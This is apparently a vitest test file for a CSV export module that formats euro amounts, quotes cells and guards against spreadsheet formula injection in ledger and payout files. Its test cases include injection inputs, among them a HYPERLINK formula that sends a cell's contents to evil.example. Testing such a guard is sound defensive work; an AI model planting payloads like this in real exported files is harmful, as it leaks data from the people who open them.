import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { campaignLedgerCsv } from '../../../shared/app/ledger';
import type { AppContext } from '../../../shared/app/context';
import type { LedgerEntry } from '../../../shared/ports/ledger';
import { formatIbanMasked } from '../../../shared/payouts/iban';
import { PAYOUT_CSV_HEADER, buildPayoutCsv, csvCell as payoutCsvCell, formatCents } from '../../../shared/payouts/pain001';
import { csvCell, euros, formatEuros, guardFormula, toCsv, type CsvCell } from '../../../shared/reports/csv';
import { IBANS, batch, item } from '../payouts/fixtures';

const rows = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: false });

/** The campaign ledger CSV of a fake context holding `entries` (newest first, as the ledger pages them). */
async function ledgerCsv(entries: LedgerEntry[]): Promise<string> {
  const ctx = {
    campaigns: { get: async (id: string) => ({ campaignId: id }) },
    ledger: { entries: async () => ({ items: entries, nextCursor: null }) },
  } as unknown as AppContext;
  return campaignLedgerCsv(ctx, 'camp-1');
}

const entry = (over: Partial<LedgerEntry>): LedgerEntry => ({
  transferId: 'cashback:r1',
  kind: 'CASHBACK',
  amountCents: -150,
  counterpartyAccountId: 'wallet:alice',
  receiptId: 'r1',
  createdAt: '2026-03-01T10:00:00.000Z',
  ...over,
});

describe('formatEuros and euros()', () => {
  it.each([
    [0, '0.00'],
    [-0, '0.00'],
    [5, '0.05'],
    [-5, '-0.05'],
    [99, '0.99'],
    [-100, '-1.00'],
    [-150, '-1.50'],
    [12_345, '123.45'],
    [-12_345, '-123.45'],
    [Number.MAX_SAFE_INTEGER, '90071992547409.91'],
    [Number.MIN_SAFE_INTEGER, '-90071992547409.91'],
  ])('%d cents -> %s', (cents, text) => {
    expect(formatEuros(cents)).toBe(text);
    expect(csvCell(euros(cents))).toBe(text);
  });

  it('takes bigints and refuses fractions, NaN and unsafe integers', () => {
    expect(formatEuros(-123_456_789_012_345_678n)).toBe('-1234567890123456.78');
    expect(() => euros(1.5)).toThrow(RangeError);
    expect(() => formatEuros(Number.NaN)).toThrow(RangeError);
    expect(() => euros(2 ** 53)).toThrow(RangeError);
  });

  it('agrees with a decimal reference and with the XML amounts on positive values', () => {
    fc.assert(
      fc.property(fc.integer({ min: Number.MIN_SAFE_INTEGER, max: Number.MAX_SAFE_INTEGER }), (cents) => {
        const text = formatEuros(cents);
        expect(text).toMatch(/^-?(0|[1-9][0-9]*)\.[0-9]{2}$/);
        expect(BigInt(text.replace('.', ''))).toBe(BigInt(cents));
        if (cents >= 0) expect(text).toBe(formatCents(cents));
      }),
      { numRuns: 500 },
    );
  });
});

describe('csvCell: formula guard on text only', () => {
  it('writes a negative amount as a bare number, never prefixed or quoted', () => {
    expect(csvCell(euros(-150))).toBe('-1.50');
    expect(csvCell(euros(-1))).toBe('-0.01');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(-3n)).toBe('-3');
  });

  it.each([
    ['-cmd', "'-cmd"],
    ['-1.50', "'-1.50"], // text that looks like an amount is still text
    ['+33 1 23', "'+33 1 23"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['\uFF1D1+2', "'\uFF1D1+2"],
    ['\uFF0D1', "'\uFF0D1"],
  ])('text %j is written %j', (text, written) => {
    expect(guardFormula(text).startsWith("'")).toBe(true);
    expect(csvCell(text)).toBe(written);
  });

  it('leaves text alone when the dangerous character is not first', () => {
    for (const text of ['a=b', 'a-b', 'x+1', 'me@example.org', ' -1', '1-2', "'quoted"]) expect(csvCell(text)).toBe(text);
  });
});

describe('csvCell: quoting', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
    ['line\nbreak', '"line\nbreak"'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    ['cr\ronly', '"cr\ronly"'],
    ['a;b', '"a;b"'],
    ['=1,2', `"'=1,2"`],
    ['Élodie • 0189', 'Élodie • 0189'],
    ['', ''],
  ])('%j -> %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  it('writes null and undefined as an empty field', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(toCsv(['a', 'b', 'c'], [[null, undefined, '']])).toBe('a,b,c\r\n,,\r\n');
  });

  it('refuses cells that are not text, a safe integer or euros()', () => {
    expect(() => csvCell(1.5)).toThrow(/safe integer/);
    expect(() => csvCell(Number.NaN)).toThrow(/safe integer/);
    expect(() => csvCell(true as unknown as CsvCell)).toThrow(TypeError);
    expect(() => csvCell(new Date() as unknown as CsvCell)).toThrow(TypeError);
    expect(() => csvCell({ cents: 1 } as unknown as CsvCell)).toThrow(TypeError);
  });
});

describe('toCsv', () => {
  it('writes a header and CRLF-terminated records, with or without a BOM', () => {
    const body = [
      ['2026-03-01', 'Cabas, mars', euros(-150), 3],
      ['2026-03-02', '-cmd', euros(25_000), -1],
    ];
    const csv = toCsv(['date', 'label', 'amount_eur', 'count'], body);
    expect(csv).toBe('date,label,amount_eur,count\r\n2026-03-01,"Cabas, mars",-1.50,3\r\n2026-03-02,\'-cmd,250.00,-1\r\n');
    const withBom = toCsv(['date', 'label', 'amount_eur', 'count'], body, { bom: true });
    expect(withBom).toBe(`\uFEFF${csv}`);
    expect(withBom.lastIndexOf('\uFEFF')).toBe(0);
    expect(toCsv(['a'], [], { bom: true })).toBe('\uFEFFa\r\n');
    expect(toCsv(['a'], [])).toBe('a\r\n');
  });

  it('refuses a row whose length differs from the header', () => {
    expect(() => toCsv(['a', 'b'], [['1']])).toThrow(RangeError);
    expect(() => toCsv(['a'], [['1', '2']])).toThrow(RangeError);
  });

  it('reads back with csv-parse to the guarded text and the amounts, for any text', () => {
    const text = fc.string({ unit: fc.constantFrom(...'aZé0 ,;"\'=+-@\t\r\n•\uFF1D'), maxLength: 40, size: 'max' });
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text, fc.integer({ min: -10_000_000, max: 10_000_000 })), { maxLength: 20 }), (records) => {
        const csv = toCsv(['a', 'b', 'amount'], records.map(([a, b, cents]) => [a, b, euros(cents)]));
        expect(csv.endsWith('\r\n')).toBe(true);
        expect(rows(csv)).toEqual([['a', 'b', 'amount'], ...records.map(([a, b, cents]) => [guardFormula(a), guardFormula(b), formatEuros(cents)])]);
      }),
      { numRuns: 300 },
    );
  });
});

describe('the two CSVs of Cabas use the one writer', () => {
  it('the payout CSV is toCsv of its cells, and its csvCell is the shared one', () => {
    const b = batch({
      items: [
        item({ amountCents: 150, creditor: { name: '-Minus', iban: IBANS.DE }, remittance: 'Cabas, mars 2026' }, 0),
        item({ amountCents: 99_999_999_999, creditor: { name: "Bob 'Le Boulanger'", iban: IBANS.FR }, remittance: '+1 cmd' }, 1),
      ],
    });
    expect(buildPayoutCsv(b, { bom: true })).toBe(
      toCsv(
        PAYOUT_CSV_HEADER,
        [
          ['PI-000000', '-Minus', formatIbanMasked(IBANS.DE), euros(150), 'Cabas, mars 2026'],
          ['PI-000001', "Bob 'Le Boulanger'", formatIbanMasked(IBANS.FR), euros(99_999_999_999), '+1 cmd'],
        ],
        { bom: true },
      ),
    );
    expect(payoutCsvCell).toBe(csvCell);
  });

  it('the ledger CSV writes negative amounts and balances as numbers, not as guarded text', async () => {
    const csv = await ledgerCsv([
      entry({ transferId: 'reversal:r1', kind: 'REVERSAL', amountCents: 150, createdAt: '2026-03-03T00:00:00.000Z' }),
      entry({ amountCents: -150, createdAt: '2026-03-02T00:00:00.000Z' }),
      entry({ transferId: 'funding:camp-1', kind: 'FUNDING', amountCents: 100, counterpartyAccountId: 'city:funding', receiptId: undefined, createdAt: '2026-03-01T00:00:00.000Z' }),
    ]);
    expect(csv.split('\r\n')).toEqual([
      'date,transfer_id,kind,counterparty_account,receipt_id,amount_eur,balance_eur',
      '2026-03-01T00:00:00.000Z,funding:camp-1,FUNDING,city:funding,,1.00,1.00',
      '2026-03-02T00:00:00.000Z,cashback:r1,CASHBACK,wallet:alice,r1,-1.50,-0.50',
      '2026-03-03T00:00:00.000Z,reversal:r1,REVERSAL,wallet:alice,r1,1.50,1.00',
      '',
    ]);
    expect(csv).not.toContain("'-");
  });

  it('both quote and guard the same text cells identically', async () => {
    // Texts that the SEPA transliteration of the payout file leaves as they are.
    const texts = ['-Minus', '+1 cmd', 'Cabas, mars 2026', "l'epicerie"];
    const ledger = await ledgerCsv(texts.map((t, i) => entry({ transferId: `t${i}`, counterpartyAccountId: t, receiptId: t, createdAt: `2026-03-0${i + 1}T00:00:00.000Z` })).reverse());
    const payout = buildPayoutCsv(batch({ items: texts.map((t, i) => item({ creditor: { name: t, iban: IBANS.NL }, remittance: t }, i)) }));
    const ledgerLines = ledger.split('\r\n').slice(1, -1);
    const payoutLines = payout.split('\r\n').slice(1, -1);
    texts.forEach((t, i) => {
      const written = csvCell(t);
      expect(ledgerLines[i]).toContain(`,${written},${written},`);
      expect(payoutLines[i]).toContain(`,${written},`);
      expect(payoutLines[i]!.endsWith(`,${written}`)).toBe(true);
    });
    expect(csvCell('-Minus')).toBe("'-Minus");
    expect(csvCell('Cabas, mars 2026')).toBe('"Cabas, mars 2026"');
  });
});
